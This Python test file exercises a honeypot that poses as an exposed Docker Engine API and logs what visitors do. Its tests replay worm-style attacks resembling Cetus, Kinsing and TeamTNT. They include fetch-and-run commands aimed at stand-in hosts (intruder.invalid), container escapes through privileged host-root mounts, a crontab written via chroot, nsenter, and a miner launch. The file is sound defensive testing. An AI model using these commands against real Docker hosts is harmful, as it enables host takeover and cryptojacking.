"""Conversations such as worms hold with port 2375, with the decoy: answered like an engine, written down, never run."""

import asyncio
import errno
import json
import os
import socket
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest

from tidegate.gate.audit.log import AuditLog
from tidegate.gate.audit.sinks import FileSink
from tidegate.gate.decoy import server as decoys
from tidegate.gate.decoy.answers import Persona, refuse_as_go
from tidegate.gate.decoy.server import Decoy
from tidegate.gate.decoy.visitors import MOST_CONTAINERS, MOST_VISITORS, Bounded, Visitors
from tidegate.http.server import Server
from tidegate.spec.audit.chain import genesis
from tidegate.spec.audit.verify import Walk, pieces_of

CHAIN = "key/decoy"


class Visit:
    """A visitor at the decoy's port; ``lines`` is what the audit says of all visits."""

    def __init__(self, port: int, audit: Path) -> None:
        self._port = port
        self._audit = audit

    @property
    def lines(self) -> list[dict[str, Any]]:
        content = self._audit.read_bytes()
        assert Walk(CHAIN, lambda _message, _signature: True).run(pieces_of("f", [content])).findings == []
        return [json.loads(line) for line in content.splitlines()]

    async def raw(self, data: bytes) -> bytes:
        reader, writer = await asyncio.open_connection("127.0.0.1", self._port)
        writer.write(data)
        writer.write_eof()
        answer = await reader.read()
        writer.close()
        return answer

    async def ask(
        self, method: str, target: str, body: object = None, headers: str = ""
    ) -> tuple[int, dict[str, str], bytes]:
        content = body if isinstance(body, bytes) else b"" if body is None else json.dumps(body).encode()
        head = (
            f"{method} {target} HTTP/1.1\r\nHost: d\r\nUser-Agent: Go-http-client/1.1\r\nConnection: close\r\n{headers}"
        )
        framing = f"Content-Length: {len(content)}\r\n" if content or method == "POST" else ""
        answer = await self.raw(f"{head}{framing}\r\n".encode() + content)
        start, _, rest = answer.partition(b"\r\n\r\n")
        lines = start.decode().split("\r\n")
        shown = {name: value for name, _, value in (line.partition(": ") for line in lines[1:])}
        return int(lines[0].split()[1]), shown, rest

    async def json(self, method: str, target: str, body: object = None) -> Any:
        status, _, content = await self.ask(method, target, body)
        assert status < 300, content
        return json.loads(content) if content else None


Scenario = Callable[[Visit], Awaitable[None]]


@asynccontextmanager
async def open_decoy(
    tmp_path: Path, write: Callable[[int, bytes], int] = os.write, now_s: Callable[[], float] = lambda: 1_700_000_000.0
) -> AsyncIterator[Visit]:
    fd = os.open(tmp_path / "audit", os.O_WRONLY | os.O_CREAT | os.O_APPEND)
    audit = AuditLog(CHAIN, genesis(CHAIN), FileSink(fd, 0, write))
    server = Server(Decoy(audit, Persona("seed"), now_s).handle, decoys.LIMITS, refuse_as_go)
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    await server.listen(sock)
    try:
        async with asyncio.timeout(30):
            yield Visit(sock.getsockname()[1], tmp_path / "audit")
    finally:
        await server.close(grace_s=0.1)
        await audit.close()


def run(tmp_path: Path, scenario: Scenario) -> None:
    async def main() -> None:
        async with open_decoy(tmp_path) as visit:
            await scenario(visit)

    asyncio.run(main())


def told(visit: Visit) -> list[str]:
    return [line["operation"] for line in visit.lines]


# ---------------------------------------------------------------- conversations


def test_a_sweep_finds_a_lonely_engine_and_not_us(tmp_path: Path) -> None:
    async def scenario(visit: Visit) -> None:
        for target in ("/_ping", "/v1.16/version", "/info", "/images/json", "/containers/json?all=1", "/nothing"):
            status, headers, body = await visit.ask("GET", target)
            assert status == (404 if target == "/nothing" else 200)
            assert headers["Server"] == "Docker/24.0.7 (linux)"
            assert headers["Api-Version"] == "1.43"
            assert b"tidegate" not in (json.dumps(headers).encode() + body).lower()
        assert (await visit.ask("HEAD", "/_ping"))[2] == b""
        assert await visit.json("GET", "/images/json") == await visit.json("GET", "/containers/json") == []
        assert (await visit.json("GET", "/version"))["Version"] == "24.0.7"
        assert (await visit.json("GET", "/info"))["Containers"] == 0
        assert "SystemVersion" in told(visit)
        assert visit.lines[0]["user_agent"] == "Go-http-client/1.1"
        assert visit.lines[0]["address"].startswith("127.0.0.1:")

    run(tmp_path, scenario)


def test_a_cetus_like_visit(tmp_path: Path) -> None:
    """Looks for the engine, pulls, runs a detached miner under a harmless name."""

    async def scenario(visit: Visit) -> None:
        await visit.json("GET", "/version")
        status, headers, body = await visit.ask(
            "POST", "/v1.40/images/create?fromImage=docker.io%2Flibrary%2Fubuntu&tag=18.04"
        )
        assert status == 200
        progress = [json.loads(line) for line in body.split(b"\r\n") if line]
        assert progress[0] == {"status": "Pulling from library/ubuntu", "id": "18.04"}
        assert progress[-1] == {"status": "Status: Downloaded newer image for ubuntu:18.04"}
        document = {"Image": "ubuntu:18.04", "Cmd": ["/usr/bin/docker-cache", "-B", "--pool", "pool.invalid:4444"]}
        made = await visit.json("POST", "/v1.40/containers/create?name=docker-cache", document)
        assert len(made["Id"]) == 64
        assert (await visit.ask("POST", f"/v1.40/containers/{made['Id']}/start"))[0] == 204
        listed = await visit.json("GET", "/v1.40/containers/json")
        assert [(row["Names"], row["State"]) for row in listed] == [(["/docker-cache"], "running")]
        assert [row["RepoTags"] for row in await visit.json("GET", "/images/json")] == [["ubuntu:18.04"]]
        create = next(line for line in visit.lines if line["operation"] == "ContainerCreate")
        assert json.loads(create["document"]) == document
        assert create["target"] == "/v1.40/containers/create?name=docker-cache"
        assert create["status"] == 201

    run(tmp_path, scenario)


def test_a_kinsing_like_visit(tmp_path: Path) -> None:
    """Binds the host's root, writes a cron line there by chroot, attaches, waits, removes."""

    async def scenario(visit: Visit) -> None:
        command = "echo '* * * * * root wget -q -O - http://intruder.invalid/d.sh | sh' > /etc/crontab"
        document = {
            "Image": "alpine",
            "Entrypoint": ["/bin/sh"],
            "Cmd": ["-c", f'chroot /mnt /bin/sh -c "{command}"'],
            "HostConfig": {"Binds": ["/:/mnt"], "Privileged": True},
        }
        made = (await visit.json("POST", "/v1.24/containers/create", document))["Id"]
        attach = f"POST /v1.24/containers/{made}/attach?stdin=1&stdout=1&stream=1 HTTP/1.1\r\nHost: d\r\n"
        answer = await visit.raw(f"{attach}Connection: Upgrade\r\nUpgrade: tcp\r\n\r\n".encode() + b"id; uname -a\n")
        assert answer.startswith(b"HTTP/1.1 101 UPGRADED\r\nContent-Type: application/vnd.docker.raw-stream\r\n")
        assert (await visit.ask("POST", f"/v1.24/containers/{made}/start"))[0] == 204
        assert await visit.json("POST", f"/v1.24/containers/{made}/wait") == {"StatusCode": 0}
        assert (await visit.ask("DELETE", f"/v1.24/containers/{made}"))[0] == 204
        assert (await visit.ask("GET", f"/v1.24/containers/{made}/json"))[0] == 404
        assert command in json.loads(visit.lines[0]["document"])["Cmd"][1]
        typed = next(line for line in visit.lines if line["operation"] == "ContainerAttach input")
        assert typed["document"] == "id; uname -a\n"

    run(tmp_path, scenario)


def test_a_teamtnt_like_visit(tmp_path: Path) -> None:
    """A privileged container on the host's network, then one exec after another into it."""

    async def scenario(visit: Visit) -> None:
        document = {
            "Image": "alpine:latest",
            "Cmd": ["sh"],
            "Tty": True,
            "HostConfig": {"Binds": ["/:/host"], "Privileged": True, "NetworkMode": "host", "PidMode": "host"},
        }
        made = (await visit.json("POST", "/containers/create?name=dockgeddon", document))["Id"]
        refused = await visit.ask("POST", "/containers/dockgeddon/exec", {"Cmd": ["id"]})
        assert refused[0] == 409
        assert (await visit.ask("POST", "/containers/dockgeddon/start"))[0] == 204
        assert (await visit.ask("POST", "/containers/dockgeddon/start"))[0] == 304
        words = ["nsenter", "--mount", "--pid", "-t", "1", "sh", "-c", "curl http://intruder.invalid/aws.sh | bash"]
        exec_id = (await visit.json("POST", f"/containers/{made[:12]}/exec", {"Cmd": words, "Tty": True}))["Id"]
        start = f"POST /exec/{exec_id}/start HTTP/1.1\r\nHost: d\r\nContent-Type: application/json\r\n"
        body = b'{"Detach":false,"Tty":true}'
        answer = await visit.raw(f"{start}Content-Length: {len(body)}\r\n\r\n".encode() + body + b"whoami\r")
        assert answer.endswith(b"\r\n\r\n/ # whoami\r\n/ # ")
        assert (await visit.json("GET", f"/exec/{exec_id}/json"))["ExitCode"] == 0
        detached = (await visit.json("POST", f"/containers/{made}/exec", {"Cmd": ["sh", "-c", "pkill docker"]}))["Id"]
        assert (await visit.ask("POST", f"/exec/{detached}/start", {"Detach": True}))[0] == 200
        documents = [line.get("document", "") for line in visit.lines]
        assert any("aws.sh | bash" in text for text in documents)
        assert any("pkill docker" in text for text in documents)
        assert "whoami\r" in documents
        assert (await visit.ask("POST", "/containers/create?name=dockgeddon", document))[0] == 409

    run(tmp_path, scenario)


def test_a_build_s_dockerfile_is_seen(tmp_path: Path) -> None:
    async def scenario(visit: Visit) -> None:
        import io
        import tarfile

        archive = io.BytesIO()
        with tarfile.open(fileobj=archive, mode="w") as tar:
            content = b"FROM alpine\nRUN curl http://intruder.invalid/x | sh\n"
            entry = tarfile.TarInfo("Dockerfile")
            entry.size = len(content)
            tar.addfile(entry, io.BytesIO(content))
        status, _, body = await visit.ask("POST", "/build?t=x&networkmode=host", archive.getvalue())
        assert status == 200
        assert b"Successfully tagged x" in body
        line = visit.lines[-1]
        assert "RUN curl http://intruder.invalid/x | sh" in line["document"]
        assert line["document_bytes"] == len(archive.getvalue())

    run(tmp_path, scenario)


# ---------------------------------------------------------------- bounds and bad manners


@pytest.mark.parametrize(
    "request_bytes",
    [b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"x" * 50, b"HELLO\r\n\r\n", b"GET / HTTP/1.1\r\n\r\n"],
)
def test_what_is_no_request_is_answered_as_go_does(tmp_path: Path, request_bytes: bytes) -> None:
    async def scenario(visit: Visit) -> None:
        answer = await visit.raw(request_bytes)
        assert answer.startswith(b"HTTP/1.1 400 Bad Request\r\n")
        assert answer.endswith(b"\r\n\r\n400 Bad Request")

    run(tmp_path, scenario)


def test_a_huge_body_is_not_kept(tmp_path: Path) -> None:
    async def scenario(visit: Visit) -> None:
        size = decoys.BODY_BYTES + 400_000
        status, _, _ = await visit.ask("POST", "/images/load", b"x" * size)
        assert status == 200
        (line,) = visit.lines
        assert len(line["document"]) == decoys.TEXT_BYTES
        assert decoys.BODY_BYTES < line["document_bytes"] <= size

    run(tmp_path, scenario)


def test_credentials_for_a_registry_are_not_written_down(tmp_path: Path) -> None:
    async def scenario(visit: Visit) -> None:
        await visit.ask("POST", "/images/create?fromImage=a", headers="X-Registry-Auth: c2VjcmV0\r\n")
        assert "c2VjcmV0" not in json.dumps(visit.lines)

    run(tmp_path, scenario)


def test_odd_documents_are_survived(tmp_path: Path) -> None:
    async def scenario(visit: Visit) -> None:
        for body in (b"[" * 100_000, b"null", b"\xff\xfe", b'{"Image":7}', b'{"image":"a","Cmd":"sh","tty":1}'):
            status, _, _ = await visit.ask("POST", "/containers/create", body)
            assert status in (201, 400)
        assert (await visit.ask("POST", "/swarm/init", {}))[0] == 503
        assert (await visit.ask("POST", "/exec/none/start", {}))[0] == 404
        assert (await visit.ask("GET", "/containers/" + "x" * 3000 + "/json"))[0] == 404
        assert all(len(line["target"]) < 3000 for line in visit.lines)

    run(tmp_path, scenario)


def test_a_flood_is_counted_and_does_not_fill_the_disk(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(decoys, "BUDGET_BYTES", 20_000)
    now_s = [1000.0]

    async def main() -> None:
        async with open_decoy(tmp_path, now_s=lambda: now_s[0]) as visit:
            for _ in range(100):
                assert (await visit.ask("GET", "/info"))[0] == 200
            written = len(visit.lines)
            assert 20 < written < 40
            now_s[0] += 100.0
            await visit.ask("GET", "/info")
            assert visit.lines[-1]["suppressed"] == 100 - written

    asyncio.run(main())


def test_what_cannot_be_written_down_gets_no_answer(tmp_path: Path) -> None:
    def full(_fd: int, _data: bytes) -> int:
        raise OSError(errno.ENOSPC, "full")

    async def main() -> None:
        async with open_decoy(tmp_path, full) as visit:
            with pytest.raises((OSError, IndexError)):
                await visit.ask("GET", "/info")

    asyncio.run(main())


def test_memory_is_bounded() -> None:
    few: Bounded[int] = Bounded(2)
    for number in range(5):
        few.put(str(number), number)
    assert few.values() == [3, 4]
    visitors = Visitors()
    first = visitors.of("10.0.0.1:1")
    assert visitors.of("10.0.0.1:2") is first
    assert visitors.of("10.0.0.2:1") is not first
    for number in range(MOST_VISITORS):
        visitors.of(f"10.1.{number // 256}.{number % 256}:1")
    assert visitors.of("10.0.0.1:3") is not first
    assert MOST_CONTAINERS < 100


def test_connections_beyond_the_limit_are_cut_off(tmp_path: Path) -> None:
    async def scenario(visit: Visit) -> None:
        held = [await asyncio.open_connection("127.0.0.1", visit._port) for _ in range(decoys.LIMITS.connections or 0)]
        await asyncio.sleep(0.05)
        with pytest.raises((OSError, IndexError)):
            await visit.ask("GET", "/_ping")
        for _, writer in held:
            writer.close()
        for _ in range(100):
            await asyncio.sleep(0.01)
            try:
                assert (await visit.ask("GET", "/_ping"))[0] == 200
                return
            except (OSError, IndexError):
                continue
        raise AssertionError("the decoy does not come back")

    run(tmp_path, scenario)
